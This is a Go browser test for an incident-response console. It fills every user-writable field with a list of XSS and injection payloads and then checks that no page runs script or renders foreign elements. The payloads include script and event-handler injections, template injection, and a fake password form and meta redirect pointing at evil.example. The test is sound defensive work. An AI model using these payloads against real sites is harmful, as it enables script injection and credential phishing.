package console

import (
	"context"
	"encoding/json"
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"

	"hozen/collector/internal/act"
	"hozen/collector/internal/contact"
	"hozen/collector/internal/endpoint"
	"hozen/collector/internal/incident"
	"hozen/collector/internal/phone"
	"hozen/collector/internal/playbook"
	"hozen/collector/internal/record"
	"hozen/internal/artifact"
	rec "hozen/internal/artifact/record"
)

// hostile are texts that run, or break out of where they stand, on a page that writes a
// stranger's words as they are: as content, in an attribute, in a title, in a text area, in an
// address, in JSON and in a comment. Each would call alert with its number, or leave an element.
func hostile() []string {
	return []string{
		`<script>alert(1)</script>`,
		`"><img src=x onerror=alert(2)>`,
		`'><svg onload=alert(3)>`,
		`</title><script>alert(4)</script>`,
		`</textarea><script>alert(5)</script>`,
		`javascript:alert(6)//`,
		`" autofocus onfocus=alert(7) onmouseover=alert(7) x="`,
		`<iframe srcdoc="<script>parent.alert(8)</script>">`,
		`<style>*{display:none}</style><pwn-x>`,
		`{{constructor.constructor('alert(10)')()}}<pwn-y`,
		`<form action=//evil.example><input name=password><button>`,
		`<meta http-equiv=refresh content="0;url=//evil.example">`,
		`--></script><script>alert(13)</script><!--`,
		`&lt;script&gt;alert(14)&lt;/script&gt;&#60;script&#62;alert(14)`,
		`<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>`,
		`<math><mi//xlink:href="data:x,<script>alert(16)</script>">`,
		`]]>"};alert(17);//<details open ontoggle=alert(17)>`,
	}
}

// infest writes every hostile text into every field that a stranger can write into, or that
// somebody types for one: what PCs say of themselves and in evidence, what callers and visitors
// say, names of files, and the words of the organisation's own people.
func (x *office) infest() (more []string) {
	x.t.Helper()
	ctx := x.t.Context()
	lines := map[artifact.Kind][]string{}
	add := func(k artifact.Kind, l string) { lines[k] = append(lines[k], l) }
	link, err := x.MakeLink(ctx, x.owner, act.NewLink{Kind: phone.Reports, Note: hostile()[0], Life: phone.Reports.Lives()[0]})
	must(x.t, err)
	shown, err := x.ShowLink(ctx, x.owner, link.ID)
	must(x.t, err)
	for n, text := range hostile() {
		pid := 5000 + n
		add(artifact.KindProcess, line(&rec.Process{PID: pid, PPID: 1, StartTicks: 7, BootID: text, Comm: text, State: "S", Args: []string{text, text}, Exe: "/tmp/" + text, ExeDeleted: true, Cwd: text, User: text, Group: text, EUser: text}))
		add(artifact.KindNetConn, line(&rec.Socket{NetNS: 1, Family: "inet", Proto: "tcp", State: "ESTABLISHED", LocalAddr: text, LocalPort: 1, RemoteAddr: "203.0.113.9", RemotePort: 443, User: text, Path: text, Owners: []rec.Owner{{PID: pid, StartTicks: 7, Comm: text, FD: 3}}}))
		add(artifact.KindOpenFile, line(&rec.OpenFiles{PID: pid, StartTicks: 7, Comm: text, FDs: []rec.FD{{FD: 0, Target: text}}}))
		add(artifact.KindExeHash, line(&rec.ExeHash{Path: text, SHA256: text, Processes: []rec.ProcRef{{PID: pid, StartTicks: 7}}}))
		add(artifact.KindSession, line(&rec.Session{Source: text, Kind: text, User: text, TTY: text, RemoteHost: text}))
		raw, err := json.Marshal(map[string]any{"event": text, "comm": text, text: text, "t_ns": n})
		must(x.t, err)
		add(artifact.KindFlight, string(raw))
		p := x.enrol(endpoint.Description{Hostname: text, OS: "linux", Arch: text, Platform: text, AgentVersion: text, BootID: text})
		inc := p.alert(text, text)
		must(x.t, x.LabelEndpoint(ctx, x.owner, p.ID, text))
		must(x.t, x.AddNote(ctx, x.owner, x.incidentID, text))
		_, err = x.Acquire(ctx, x.owner, p.ID, act.Order{Reason: text, IncidentID: inc})
		must(x.t, err)
		_, err = x.ReportByLink(ctx, shown.Token, act.LinkReport{Text: text, Contact: text, Computer: text}, fmt.Sprintf("198.51.100.%d", n+1))
		must(x.t, err)
		must(x.t, x.SaveOwnStep(ctx, x.owner, playbook.OwnItem{Playbook: "outage", Substep: "contain", Mode: playbook.Decide, Who: playbook.Whos(), Text: playbook.Text{JA: text, EN: text}, When: playbook.Text{JA: text, EN: text}}))
		_, err = x.SaveContact(ctx, x.owner, contact.Own{Kind: contact.Vendor, Name: text, Person: text, Hours: text, Reference: text, Note: text})
		must(x.t, err)
		_, err = x.RecordEnquiry(ctx, x.owner, x.incidentID, record.Enquiry{Who: text, Contact: text, Channel: record.ByMail, Question: text, Answer: text})
		must(x.t, err)
		_, err = x.RecordDecision(ctx, x.owner, x.incidentID, record.Decision{Kind: record.DecideOther, Options: text, Facts: text, Decision: text, Reason: text, Decider: text})
		must(x.t, err)
		// As a mail's subject is the name of the file in which somebody saved it.
		u, err := x.BeginUpload(ctx, x.owner, act.NewUpload{IncidentID: x.incidentID, Size: -1, File: record.File{Source: record.CloudLog, Name: strings.ReplaceAll(text, "/", "_") + ".eml", Device: text, Person: text, ClockNote: text}})
		must(x.t, err)
		_, err = x.AppendUpload(ctx, x.owner, u.ID, 0, strings.NewReader(text))
		must(x.t, err)
		_, err = x.FinishUpload(ctx, x.owner, u.ID)
		must(x.t, err)
		if n%3 == 0 { // those that would break out of a title, of an attribute and of a comment among them
			more = append(more, "/search?q="+url.QueryEscape(text), "/help?q="+url.QueryEscape(text), "/endpoints/"+p.ID, "/incidents/"+inc)
		}
		_, err = x.OpenIncident(ctx, x.owner, act.NewIncident{Title: text, Reporter: text, Classification: incident.Malware})
		must(x.t, err)
	}
	x.spread()
	acq := x.keiri.send(func(m *artifact.Manifest) { m.IncidentID = x.incidentID }, lines)
	items, err := x.AcquisitionItems(ctx, x.owner, acq)
	must(x.t, err)
	for _, it := range items {
		more = append(more, "/evidence/"+it.ID)
		switch it.Kind {
		case artifact.KindProcess:
			more = append(more, "/evidence/"+it.ID+"/findings", "/evidence/"+it.ID+"/tree", "/evidence/"+it.ID+"/records", "/evidence/"+it.ID+"?q="+url.QueryEscape(hostile()[1]))
			for n := 0; n < len(hostile()); n += 3 {
				more = append(more, fmt.Sprintf("/evidence/%s/processes/%d-7", it.ID, 5000+n))
			}
		case artifact.KindNetConn:
			more = append(more, "/evidence/"+it.ID+"/map", "/evidence/"+it.ID+"?show=all")
		}
	}
	return more
}

// TestBrowserRunsNoStrangersWords opens every kind of page of an office full of hostile texts, in
// each column of the database that has words which are not the product's, in a real browser that was told not to mind the policy of the pages, which would stop a script by
// itself: what is shown here is that nothing needs stopping. Pages of one kind are opened once,
// with all their scripts; of the others the browser reads what the server sent.
func TestBrowserRunsNoStrangersWords(t *testing.T) {
	chromium(t)
	x := newOffice(t, 20)
	more := x.infest()
	listed := x.paths()
	x.overwrite()
	b := x.tab(false)
	_, err := chromedp.Run(b.ctx, func(ctx context.Context, c *chromedp.Target) (chromedp.Void, error) {
		return chromedp.Void{}, c.Call(ctx, "Page.setBypassCSP", map[string]bool{"enabled": true}, nil)
	})
	must(t, err)
	b.bring(`window.ran = []; for (const name of ["alert", "confirm", "prompt", "print"]) window[name] = (s) => { window.ran.push(name + " " + s); };`)
	b.signIn("owner")
	// The browser itself is asked, by a page that does what all are kept from.
	_, err = chromedp.Run(b.ctx, chromedp.Evaluate[string](`(() => { const d = document.createElement("div"); d.innerHTML = '<img src=x onerror=alert(0)><pwn-z></pwn-z>'; document.body.append(d); return "" })()`))
	must(t, err)
	b.until(`window.ran.length === 1 && document.querySelector("pwn-z")`)

	paths, kinds := []string{}, map[string]bool{}
	for _, p := range append(listed, "/evidence/x?q="+url.QueryEscape(hostile()[0])) {
		if k := kindOf(p); !kinds[k] {
			kinds[k] = true
			paths = append(paths, p)
		}
	}
	// What leaves the page as it was meant: only elements of ours, links of ours, no handler.
	const intruders = `(page) => [...page.querySelectorAll("*")].flatMap((e) => {
		const bad = [], tag = e.localName;
		if (tag.includes("pwn") || ["iframe", "object", "embed", "base", "style", "math", "font"].includes(tag)) bad.push(tag);
		if (tag === "script" && !(e.getAttribute("src") || "").startsWith("/static/")) bad.push("script");
		if (tag === "img" && !(e.getAttribute("src") || "").startsWith("/static/")) bad.push("img");
		if (tag === "meta" && e.hasAttribute("http-equiv") && !/^[0-9]+$/.test(e.getAttribute("content"))) bad.push("meta");
		if (tag === "link" && !(e.getAttribute("href") || "").startsWith("/static/")) bad.push("link");
		if (tag === "form" && !/^(\/(?!\/)|$)/.test(e.getAttribute("action") || "")) bad.push("form to " + e.getAttribute("action"));
		for (const a of e.attributes) {
			if (/^on/i.test(a.name) || a.name === "style" || a.name === "srcdoc") bad.push(tag + " " + a.name);
			if (["href", "src", "action", "formaction", "xlink:href"].includes(a.name) && !/^(\/(?!\/)|[?#]|https:\/\/|tel:|mailto:|$)/.test(a.value)) bad.push(tag + " " + a.name + "=" + a.value.slice(0, 80));
			if (/evil\.example/.test(a.value) && ["href", "src", "action"].includes(a.name) && !/^(\/|mailto:|tel:)/.test(a.value)) bad.push(tag + " leads to evil.example");
		}
		return bad;
	}).concat(window.ran, page.querySelectorAll("h1").length === 1 ? [] : ["the page is not what it was"])`
	opened := map[string]bool{}
	seen, left := 0, []string{}
	for _, path := range slices.Concat(paths, more) {
		stranger := slices.Contains(more, path) || strings.HasPrefix(path, "/incidents") || slices.Contains([]string{"/", "/contacts", "/links", "/groups", "/search?q=pc"}, path)
		k := kindOf(path)
		if !stranger || opened[k] {
			left = append(left, path)
			continue
		}
		opened[k] = true
		b.open(path)
		found, err := chromedp.Run(b.ctx, chromedp.Evaluate[[]string](`(`+intruders+`)(document)`))
		must(t, err)
		if len(found) > 0 {
			t.Errorf("%.120s: %q", path, found)
		}
		seen++
	}
	list, err := json.Marshal(left)
	must(t, err)
	found, err := chromedp.Run(b.ctx, chromedp.Evaluate[[]string](`(async (paths) => {
		const look = `+intruders+`, bad = [];
		for (const path of paths) {
			const answer = await fetch(path, {credentials: "same-origin"});
			const page = new DOMParser().parseFromString(await answer.text(), "text/html");
			for (const what of look(page)) bad.push(path.slice(0, 120) + ": " + what);
		}
		return bad;
	})(`+string(list)+`)`, chromedp.EvalAwaitPromise))
	must(t, err)
	for _, f := range found {
		t.Error(f)
	}
	seen += len(left)
	if seen < 110 || len(opened) < 35 {
		t.Errorf("only %d pages were looked at, %d of them opened", seen, len(opened))
	}
	t.Logf("%d opened", len(opened))
	t.Logf("%d pages", seen)
}
